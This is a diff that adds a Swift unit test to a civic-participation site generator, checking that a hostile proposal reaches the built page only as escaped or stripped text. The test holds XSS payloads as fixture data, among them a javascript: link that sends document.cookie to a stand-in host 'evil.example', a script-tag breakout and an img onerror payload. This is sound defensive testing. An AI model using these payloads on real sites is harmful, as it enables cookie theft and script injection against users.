@@ -156,6 +156,35 @@ final class ContributionFlowTests: XCTestCase {
         XCTAssertTrue(try read(root, "en/city/talk").contains("Fewer cars, more kids playing."))
     }
 
+    /// The case: a participant's proposal carries a script link and raw HTML through the collector, the
+    /// export and a moderator's acceptance, on a site whose communicators allow themselves raw HTML.
+    func testAHostileProposalReachesTheSiteAsTextAndTheBuildSucceeds() throws {
+        let root = TellerFixtures.temporaryDirectory()
+        try TellerFixtures.writeFiles(Self.site.replacingOccurrences(of: "default_language: en\n", with: "default_language: en\nallow_html: true\n"), under: root)
+        let manifest = try build(root)
+        let form = manifest.forms.first { $0.id == "city/ideas/propose" }!
+        let title = "</script><script>alert(1)</script>"
+        let text = "Please [read the full text](javascript:fetch('//evil.example/'+document.cookie)).\n\n<img src=x onerror=alert(1)>"
+        let record = TellerFixtures.record(form, [BallotItem("title", title), BallotItem("text", text)], key: TellerFixtures.key(72), nonce: 1)
+        let verification = BallotVerifier(manifest: manifest, rolls: try TellerFixtures.inputs(manifest.forms).rolls, settings: VerifySettings()).verify([record])
+        let content = root.appendingPathComponent("content")
+        let summary = try ContributionExport.run(verification: verification, manifest: manifest, content: content, form: nil,
+                                                 identities: root.appendingPathComponent("filings.csv"))
+        let file = try XCTUnwrap(summary.written.first)
+        let url = content.appendingPathComponent(file.path)
+        try String(contentsOf: url, encoding: .utf8).replacingOccurrences(of: "moderation: \"pending\"", with: "moderation: accepted")
+            .write(to: url, atomically: true, encoding: .utf8)
+        _ = try build(root)
+
+        let page = try read(root, "en/" + file.path.replacingOccurrences(of: ".en.md", with: ""))
+        XCTAssertTrue(page.contains("<p>Please read the full text.</p>"), page)
+        XCTAssertFalse(page.contains("javascript:"), page)
+        XCTAssertTrue(page.contains("&lt;img src=x onerror=alert(1)&gt;"), page)
+        XCTAssertFalse(page.contains("<img src=x"), page)
+        XCTAssertFalse(page.contains("<script>alert(1)"), page)
+        XCTAssertFalse(try read(root, "en/city/ideas").contains("<script>alert(1)"))
+    }
+
     func testALanguageTheFormIsNotShownInIsRefused() throws {
         let root = TellerFixtures.temporaryDirectory()
         try TellerFixtures.writeFiles(Self.site, under: root)
